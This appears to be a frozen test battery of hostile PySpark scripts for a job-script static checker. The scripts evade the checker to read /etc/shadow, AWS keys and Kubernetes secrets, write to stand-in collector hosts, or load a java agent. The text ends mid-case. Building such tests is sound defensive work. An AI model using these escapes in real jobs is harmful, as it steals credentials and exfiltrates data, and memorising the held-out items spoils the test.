# ruff: noqa: E501
"""Second frozen, held-out battery for `static_check_python` (the PySpark job script check).

Written blind to the checker's code and to the first frozen set on 2026-12-07, from the
contract alone. Frozen: do not edit cases to make them pass. A case that fails shows a gap
in the checker (a hostile script let through) or an over-refusal (a benign job refused).

Each case is `(case_id, script_text, must_refuse)`:
- `must_refuse=True`: a hostile script, one inventive attempt to break out of the contract
  (reads or writes outside `spark.table` / `saveAsTable`, session/catalog/conf changes,
  functions that leave the data, UDFs, Python over rows, Python escape hatches, JVM access,
  SQL strings with hidden functions, sub-queries or run-time assembly);
- `must_refuse=False`: a realistic ETL job kept strictly within the contract.
"""

FROZEN_CASES_2: list[tuple[str, str, bool]] = [
    # --- hostile: reading and writing outside spark.table / saveAsTable, catalog, conf, session ---
    (
        "reader_alias_through_tuple_unpacking",
        r'''"""Depot trips: the session reader is smuggled out through a tuple unpacking."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    trips = spark.table("fleet.trips")
    source, _unused = spark.read, None
    secrets = source.text("/etc/passwd")
    return trips.crossJoin(secrets.limit(1)).withColumn("km", F.col("km") * 1.0)


def main() -> None:
    spark = SparkSession.builder.appName("depot_trips").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("fleet.trip_summary")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "reader_reached_through_dataframe_spark_session",
        r'''"""Shift rosters: a reader reached through the DataFrame's own sparkSession attribute."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    shifts = spark.table("hr.shifts")
    extra = shifts.sparkSession.read.json("/var/run/secrets/kubernetes.io/serviceaccount")
    return shifts.unionByName(extra, allowMissingColumns=True).where(F.col("hours") > 0)


def main() -> None:
    spark = SparkSession.builder.appName("rosters").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("hr.roster_hours")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "active_session_classmethod_reader",
        r'''"""Vineyard harvests: reads a parquet path through SparkSession.active() instead of the argument."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    harvests = spark.table("vineyard.harvests")
    other = SparkSession.active().read.parquet("s3a://finance-raw/payroll/")
    return harvests.join(other, "grower_id", "left").groupBy("plot").agg(F.sum("kg").alias("kg"))


def main() -> None:
    spark = SparkSession.builder.appName("harvests").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("vineyard.plot_kg")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "table_name_is_csv_file_path",
        r'''"""Ferry crossings: the 'table' is a file read through Spark's format.`path` identifier."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    crossings = spark.table("csv.`/etc/passwd`")
    return crossings.withColumn("loaded", F.lit(1))


def main() -> None:
    spark = SparkSession.builder.appName("ferries").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("ferry.crossings_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "table_name_is_delta_object_store_path",
        r'''"""Solar farm output: a backquoted object-store path dressed as a db.table name."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    panels = spark.table("solar.panels")
    payroll = spark.table("delta.`s3a://hr-private/salaries`")
    return panels.join(payroll, "site_id").groupBy("site_id").agg(F.sum("kwh").alias("kwh"))


def main() -> None:
    spark = SparkSession.builder.appName("solar").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("solar.site_kwh")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "table_name_assembled_from_path_pieces",
        r'''"""Weather stations: the table name is concatenated at run time into a json.`path` read."""

from pyspark.sql import DataFrame, SparkSession, functions as F

PREFIX = "json.`/home/etl"


def build(spark: SparkSession) -> DataFrame:
    stations = spark.table(PREFIX + "/.aws/credentials`")
    return stations.withColumn("temp_c", F.round(F.col("temp_c"), 1))


def main() -> None:
    spark = SparkSession.builder.appName("weather").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("weather.stations_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "save_as_table_with_path_keyword",
        r'''"""Parking sessions: saveAsTable given a path= keyword, making it an external table on any path."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    sessions = spark.table("parking.sessions")
    return sessions.groupBy("zone").agg(F.count("*").alias("n"))


def main() -> None:
    spark = SparkSession.builder.appName("parking").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable(
        "parking.zone_counts", format="csv", path="/mnt/shared/exfil/zone_counts"
    )


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "writer_option_path_before_save_as_table",
        r'''"""Library loans: an .option("path", ...) slipped between mode() and saveAsTable()."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    loans = spark.table("library.loans")
    return loans.where(F.col("returned").isNull())


def main() -> None:
    spark = SparkSession.builder.appName("loans").getOrCreate()
    build(spark).write.mode("overwrite").option("path", "hdfs://collector:8020/drop/loans").saveAsTable(
        "library.open_loans"
    )


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "save_as_table_target_is_parquet_path",
        r'''"""Fish landings: the output 'table' is a parquet.`path` identifier, i.e. a file write."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    landings = spark.table("fishery.landings")
    return landings.groupBy("port", "species").agg(F.sum("tonnes").alias("tonnes"))


def main() -> None:
    spark = SparkSession.builder.appName("landings").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("parquet.`/tmp/public_share/landings`")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "insert_into_foreign_table_from_main",
        r'''"""Ski lifts: main() writes with insertInto(overwrite=True) into an unrelated ledger table."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    rides = spark.table("ski.lift_rides")
    return rides.groupBy("lift_id").agg(F.count("*").alias("rides"))


def main() -> None:
    spark = SparkSession.builder.appName("lifts").getOrCreate()
    build(spark).write.insertInto("finance.ledger", overwrite=True)


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "write_to_v2_create_or_replace",
        r'''"""Warehouse bins: the v2 writeTo(...).createOrReplace() API instead of saveAsTable."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    bins = spark.table("warehouse.bins")
    return bins.withColumn("fill_ratio", F.col("used") / F.col("capacity"))


def main() -> None:
    spark = SparkSession.builder.appName("bins").getOrCreate()
    build(spark).writeTo("warehouse.bin_fill").using("parquet").createOrReplace()


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "writer_save_to_filesystem_path",
        r'''"""Marathon results: format("json").save(path) writes plain files next to the table write."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    results = spark.table("marathon.results")
    ranked = results.orderBy(F.col("finish_s").asc())
    ranked.write.mode("overwrite").format("json").save("/var/www/html/results")
    return ranked


def main() -> None:
    spark = SparkSession.builder.appName("marathon").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("marathon.ranked")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "spark_sql_called_as_unbound_method",
        r'''"""Ambulance dispatch: SparkSession.sql called unbound, so no `spark.sql(` text appears."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    calls = SparkSession.sql(spark, "SELECT * FROM hr.salaries")
    return calls.withColumn("flag", F.lit(True))


def main() -> None:
    spark = SparkSession.builder.appName("dispatch").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("ems.dispatch_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "spark_sql_bound_by_walrus",
        r'''"""Cinema screenings: spark.sql captured with a walrus inside an if test."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    screenings = spark.table("cinema.screenings")
    if (run := spark.sql) is not None:
        screenings = run("SELECT * FROM cinema.screenings UNION ALL SELECT * FROM hr.salaries")
    return screenings.where(F.col("seats_sold") >= 0)


def main() -> None:
    spark = SparkSession.builder.appName("cinema").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("cinema.screenings_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "read_stream_from_kafka",
        r'''"""Elevator telemetry: a streaming Kafka source joined to a batch table."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    elevators = spark.table("maint.elevators")
    live = (
        spark.readStream.format("kafka")
        .option("kafka.bootstrap.servers", "broker.internal:9092")
        .option("subscribe", "elevator-telemetry")
        .load()
    )
    return elevators.join(live, F.col("key").cast("string") == F.col("elevator_id"))


def main() -> None:
    spark = SparkSession.builder.appName("elevators").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("maint.elevator_live")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "temp_view_registration_changes_catalog",
        r'''"""Clinic visits: registers a global temp view, a catalog change visible to other sessions."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    visits = spark.table("clinic.visits")
    visits.createOrReplaceGlobalTempView("patients_all")
    return visits.groupBy("clinic_id").agg(F.count("*").alias("visits"))


def main() -> None:
    spark = SparkSession.builder.appName("clinic").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("clinic.visit_counts")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "catalog_switch_database_then_plain_table",
        r'''"""Courses: switches the current database so the bare name 'grades' resolves to a private db."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    spark.catalog.setCurrentDatabase("registrar_private")
    grades = spark.table("grades")
    return grades.groupBy("course_id").agg(F.avg("score").alias("avg_score"))


def main() -> None:
    spark = SparkSession.builder.appName("courses").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("courses.avg_scores")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "catalog_listing_leaks_table_names",
        r'''"""Pharmacy stock: the catalog listing of every table is smuggled into the output."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    stock = spark.table("pharmacy.stock")
    names = ",".join(t.name for t in spark.catalog.listTables("hr"))
    return stock.withColumn("note", F.lit(names))


def main() -> None:
    spark = SparkSession.builder.appName("pharmacy").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("pharmacy.stock_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "runtime_conf_set_warehouse_dir",
        r'''"""Recycling plants: moves the warehouse directory so the saved table lands on a chosen path."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    spark.conf.set("spark.sql.warehouse.dir", "/mnt/public_share/warehouse")
    loads = spark.table("recycling.loads")
    return loads.groupBy("plant").agg(F.sum("tonnes").alias("tonnes"))


def main() -> None:
    spark = SparkSession.builder.appName("recycling").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("recycling.plant_tonnes")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "runtime_conf_get_reads_secret_key",
        r'''"""Bike share: copies the S3 secret key out of the session configuration into a column."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    rides = spark.table("bikes.rides")
    key = spark.conf.get("spark.hadoop.fs.s3a.secret.key", "none")
    return rides.withColumn("batch_tag", F.lit(key))


def main() -> None:
    spark = SparkSession.builder.appName("bikes").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("bikes.rides_tagged")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "builder_config_java_agent",
        r'''"""Postal parcels: the session builder in main() loads a java agent from /tmp."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    parcels = spark.table("post.parcels")
    return parcels.groupBy("depot").agg(F.count("*").alias("parcels"))


def main() -> None:
    spark = (
        SparkSession.builder.appName("parcels")
        .config("spark.driver.extraJavaOptions", "-javaagent:/tmp/agent.jar")
        .getOrCreate()
    )
    build(spark).write.mode("overwrite").saveAsTable("post.depot_parcels")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "builder_remote_connect_server",
        r'''"""Hotel housekeeping: the session is opened against an outside Spark Connect server."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    rooms = spark.table("hotel.room_cleanings")
    return rooms.groupBy("floor").agg(F.avg("minutes").alias("avg_minutes"))


def main() -> None:
    spark = SparkSession.builder.remote("sc://collector.example.net:15002").appName("x").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("hotel.floor_minutes")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "builder_master_points_to_foreign_cluster",
        r'''"""Crop yields: master() sends the job, and the data it reads, to a foreign cluster."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    yields = spark.table("farm.yields")
    return yields.groupBy("crop").agg(F.avg("t_per_ha").alias("t_per_ha"))


def main() -> None:
    spark = SparkSession.builder.master("spark://203.0.113.7:7077").appName("yields").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("farm.crop_yields")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "add_artifacts_python_file",
        r'''"""Veterinary visits: ships a local Python file to the executors as an artifact."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    spark.addArtifacts("/tmp/payload.py", pyfile=True)
    visits = spark.table("vet.visits")
    return visits.groupBy("species").agg(F.count("*").alias("visits"))


def main() -> None:
    spark = SparkSession.builder.appName("vet").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("vet.species_visits")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "copy_local_file_to_cluster_fs",
        r'''"""Water utility: copies a local secret file onto the cluster file system."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    spark.copyFromLocalToFs("/etc/shadow", "/user/public/shadow.txt")
    meters = spark.table("water.meters")
    return meters.where(F.col("litres") >= 0)


def main() -> None:
    spark = SparkSession.builder.appName("water").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("water.meters_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "python_data_source_registered",
        r'''"""Telescope observations: a Python DataSource class registered and read by name."""

from pyspark.sql import DataFrame, SparkSession, functions as F
from pyspark.sql.datasource import DataSource, DataSourceReader


class Files(DataSource):
    @classmethod
    def name(cls) -> str:
        return "files"

    def schema(self) -> str:
        return "line string"

    def reader(self, schema):
        return Lines()


class Lines(DataSourceReader):
    def read(self, partition):
        yield ("x",)


def build(spark: SparkSession) -> DataFrame:
    spark.dataSource.register(Files)
    obs = spark.table("astro.observations")
    return obs.withColumn("mag", F.round("mag", 2))


def main() -> None:
    spark = SparkSession.builder.appName("astro").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("astro.observations_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "input_files_leak_storage_paths",
        r'''"""Train departures: DataFrame.inputFiles() puts the storage paths of the source into a column."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    departures = spark.table("rail.departures")
    files = departures.inputFiles()
    return departures.withColumn("lineage", F.lit(";".join(files)))


def main() -> None:
    spark = SparkSession.builder.appName("rail").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("rail.departures_lineage")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "reader_inside_broadcast_hint",
        r'''"""Airport gates: a file reader hidden inside the innocent-looking F.broadcast() join hint."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    gates = spark.table("airport.gate_events")
    dim = F.broadcast(spark.read.option("header", "true").csv("/opt/airflow/connections.csv"))
    return gates.join(dim, "gate_id", "left")


def main() -> None:
    spark = SparkSession.builder.appName("gates").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("airport.gate_events_enriched")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "reader_constructed_directly",
        r'''"""Brewery batches: a DataFrameReader built by hand from the session, no spark.read text."""

from pyspark.sql import DataFrame, DataFrameReader, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    batches = spark.table("brewery.batches")
    extra = DataFrameReader(spark).text("/proc/self/environ")
    return batches.crossJoin(extra.limit(1)).withColumn("abv", F.round("abv", 1))


def main() -> None:
    spark = SparkSession.builder.appName("brewery").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("brewery.batches_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "match_class_pattern_extracts_reader",
        r'''"""School buses: a match statement's class pattern pulls .read out of the session."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    routes = spark.table("school.bus_routes")
    match spark:
        case SparkSession(read=reader):
            routes = routes.unionByName(reader.parquet("/data/students_pii"), allowMissingColumns=True)
    return routes.where(F.col("stops") > 0)


def main() -> None:
    spark = SparkSession.builder.appName("buses").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("school.bus_routes_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "functions_alias_shadowed_by_reader",
        r'''"""Museum visits: the name F is rebound to spark.read inside build, so F.* reads files."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    visits = spark.table("museum.visits")
    F = spark.read
    return visits.unionByName(F.csv("/srv/museum/donors.csv"), allowMissingColumns=True)


def main() -> None:
    spark = SparkSession.builder.appName("museum").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("museum.visits_all")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    # --- hostile: functions that leave the data, UDFs, aliases, lambdas, decorators, class bodies ---
    (
        "star_import_bare_input_file_name",
        r'''"""Energy meters: a star import makes input_file_name callable without any F. prefix."""

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql.functions import *  # noqa: F403


def build(spark: SparkSession) -> DataFrame:
    readings = spark.table("energy.meter_readings")
    return readings.withColumn("source_file", input_file_name())  # noqa: F405


def main() -> None:
    spark = SparkSession.builder.appName("meters").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("energy.readings_src")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "udf_imported_under_name_col",
        r'''"""Call centre: udf imported as `col`, so the UDF call looks like a column builder."""

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql.functions import udf as col


def build(spark: SparkSession) -> DataFrame:
    calls = spark.table("callcentre.calls")
    clean = col(lambda s: (s or "").strip().title(), "string")
    return calls.withColumn("agent", clean("agent"))


def main() -> None:
    spark = SparkSession.builder.appName("calls").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("callcentre.calls_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "expr_imported_under_name_col",
        r'''"""Ferry tickets: expr imported as `col`, carrying a java_method call as a 'column name'."""

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql.functions import expr as col


def build(spark: SparkSession) -> DataFrame:
    tickets = spark.table("ferry.tickets")
    return tickets.withColumn("home", col("java_method('java.lang.System', 'getenv', 'HOME')"))


def main() -> None:
    spark = SparkSession.builder.appName("tickets").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("ferry.tickets_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "expr_bound_to_local_name",
        r'''"""Bed occupancy: F.expr copied to a plain local name, then fed reflect()."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    beds = spark.table("hospital.beds")
    make = F.expr
    return beds.withColumn("host", make("reflect('java.net.InetAddress', 'getLocalHost')"))


def main() -> None:
    spark = SparkSession.builder.appName("beds").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("hospital.beds_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "expr_mapped_over_string_list",
        r'''"""Vineyard labs: F.expr applied through map() over a list that hides a java_method call."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    labs = spark.table("vineyard.lab_results")
    return labs.select(*map(F.expr, ["sample_id", "java_method('java.lang.System', 'getProperty', 'user.home')"]))


def main() -> None:
    spark = SparkSession.builder.appName("labs").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("vineyard.lab_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "select_expr_through_functools_partial",
        r'''"""Tram stops: selectExpr bound with functools.partial, then given a reflect() string."""

import functools

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    stops = spark.table("tram.stops")
    project = functools.partial(stops.selectExpr, "*")
    return project("reflect('java.lang.System', 'getenv', 'AWS_SECRET_ACCESS_KEY') AS k").where(F.col("stop_id").isNotNull())


def main() -> None:
    spark = SparkSession.builder.appName("tram").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("tram.stops_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "select_expr_called_unbound_on_class",
        r'''"""Exam sittings: DataFrame.selectExpr called on the class with a java_method string."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    sittings = spark.table("courses.exam_sittings")
    out = DataFrame.selectExpr(sittings, "*", "java_method('java.lang.System', 'getenv', 'PATH') AS p")
    return out.where(F.col("score") >= 0)


def main() -> None:
    spark = SparkSession.builder.appName("exams").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("courses.exam_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "window_partition_by_input_file_name",
        r'''"""Meter rollups: input_file_name hidden inside a Window partition spec."""

from pyspark.sql import DataFrame, SparkSession, Window, functions as F


def build(spark: SparkSession) -> DataFrame:
    readings = spark.table("energy.readings")
    w = Window.partitionBy(F.input_file_name()).orderBy("reading_ts")
    return readings.withColumn("seq", F.row_number().over(w))


def main() -> None:
    spark = SparkSession.builder.appName("rollups").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("energy.readings_seq")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "window_order_by_expr_java_method",
        r'''"""Gate delays: a Window ordered by an F.expr string that calls java_method."""

from pyspark.sql import DataFrame, SparkSession, Window, functions as F


def build(spark: SparkSession) -> DataFrame:
    delays = spark.table("airport.delays")
    w = Window.partitionBy("gate").orderBy(F.expr("java_method('java.lang.System', 'getenv', 'HOME')"))
    return delays.withColumn("rank", F.rank().over(w))


def main() -> None:
    spark = SparkSession.builder.appName("delays").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("airport.delay_ranks")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "call_function_by_name_reflect",
        r'''"""Solar inverters: F.call_function invokes reflect by name, no reflect attribute in sight."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    inverters = spark.table("solar.inverters")
    env = F.call_function("reflect", F.lit("java.lang.System"), F.lit("getenv"), F.lit("AWS_SECRET_ACCESS_KEY"))
    return inverters.withColumn("firmware_note", env)


def main() -> None:
    spark = SparkSession.builder.appName("inverters").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("solar.inverters_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "call_udf_by_registered_name",
        r'''"""Fisheries: F.call_udf calls a session-registered function by name."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    catches = spark.table("fishery.catches")
    return catches.withColumn("species_norm", F.call_udf("shell_normalise", F.col("species")))


def main() -> None:
    spark = SparkSession.builder.appName("catches").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("fishery.catches_norm")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "try_reflect_function",
        r'''"""Ski passes: the try_ variant of reflect, which a reflect-only deny list may miss."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    passes = spark.table("ski.passes")
    leak = F.try_reflect(F.lit("java.lang.System"), F.lit("getProperty"), F.lit("java.class.path"))
    return passes.withColumn("pass_class", F.coalesce(F.col("pass_class"), leak))


def main() -> None:
    spark = SparkSession.builder.appName("passes").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("ski.passes_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "current_user_as_coalesce_default",
        r'''"""Lab bookings: current_user() slipped in as the 'default' of a coalesce."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    bookings = spark.table("lab.bookings")
    return bookings.withColumn("booked_by", F.coalesce(F.col("booked_by"), F.current_user()))


def main() -> None:
    spark = SparkSession.builder.appName("bookings").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("lab.bookings_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "version_and_catalog_environment_columns",
        r'''"""Rail maintenance: Spark version, current catalog and schema stamped into every row."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    jobs = spark.table("rail.maintenance_jobs")
    env = F.concat_ws("|", F.version(), F.current_catalog(), F.current_schema())
    return jobs.withColumn("pipeline_env", env)


def main() -> None:
    spark = SparkSession.builder.appName("maintenance").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("rail.maintenance_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "input_file_block_start_offsets",
        r'''"""Parcel scans: file block offsets of the underlying storage exposed as columns."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    scans = spark.table("post.scans")
    return scans.withColumn("blk", F.input_file_block_start()).withColumn("len", F.input_file_block_length())


def main() -> None:
    spark = SparkSession.builder.appName("scans").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("post.scans_blocks")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "pandas_udf_decorator_on_helper",
        r'''"""Energy tariffs: a pandas_udf applied as a decorator to a module-level helper."""

from pyspark.sql import DataFrame, SparkSession, functions as F


@F.pandas_udf("double")
def tariff(kwh):
    return kwh * 0.31


def build(spark: SparkSession) -> DataFrame:
    usage = spark.table("energy.usage")
    return usage.withColumn("cost", tariff("kwh"))


def main() -> None:
    spark = SparkSession.builder.appName("tariffs").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("energy.usage_cost")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "udf_decorator_on_nested_function",
        r'''"""Course codes: a plain F.udf decorator on a function nested inside build()."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    @F.udf(returnType="string")
    def tidy(code):
        return (code or "").strip().upper()

    courses = spark.table("courses.catalogue")
    return courses.withColumn("code", tidy(F.col("code")))


def main() -> None:
    spark = SparkSession.builder.appName("codes").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("courses.catalogue_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "udtf_class_decorator",
        r'''"""Timetables: a Python UDTF class (F.udtf decorator) generates rows from Python code."""

from pyspark.sql import DataFrame, SparkSession, functions as F


@F.udtf(returnType="line: string")
class Lines:
    def eval(self, n: int):
        for i in range(n):
            yield (str(i),)


def build(spark: SparkSession) -> DataFrame:
    timetable = spark.table("rail.timetable")
    hosts = Lines(F.lit(1))
    return timetable.crossJoin(hosts)


def main() -> None:
    spark = SparkSession.builder.appName("timetables").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("rail.timetable_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "session_udf_register_then_sql_call",
        r'''"""Hotel rates: a Python lambda registered on spark.udf, then called from a SQL literal."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    spark.udf.register("norm_rate", lambda r: float(r or 0), "double")
    rates = spark.table("hotel.rates")
    return rates.withColumn("rate", F.expr("norm_rate(rate)"))


def main() -> None:
    spark = SparkSession.builder.appName("rates").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("hotel.rates_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "user_defined_function_class_import",
        r'''"""Dock schedules: builds a UDF from the pyspark.sql.udf class rather than F.udf."""

from pyspark.sql import DataFrame, SparkSession, functions as F
from pyspark.sql.types import StringType
from pyspark.sql.udf import UserDefinedFunction


def build(spark: SparkSession) -> DataFrame:
    docks = spark.table("port.dock_schedule")
    upper = UserDefinedFunction(lambda s: (s or "").upper(), StringType())
    return docks.withColumn("vessel", upper(F.col("vessel")))


def main() -> None:
    spark = SparkSession.builder.appName("docks").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("port.dock_schedule_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "transform_lambda_body_opens_file",
        r'''"""Course tags: F.transform's lambda looks like array handling but reads a file on the driver."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    courses = spark.table("courses.tags")
    tagged = F.transform(F.split("tags", ","), lambda t: F.concat(F.trim(t), F.lit(open("/etc/hostname").read())))
    return courses.withColumn("tags", tagged)


def main() -> None:
    spark = SparkSession.builder.appName("tags").getOrCreate()
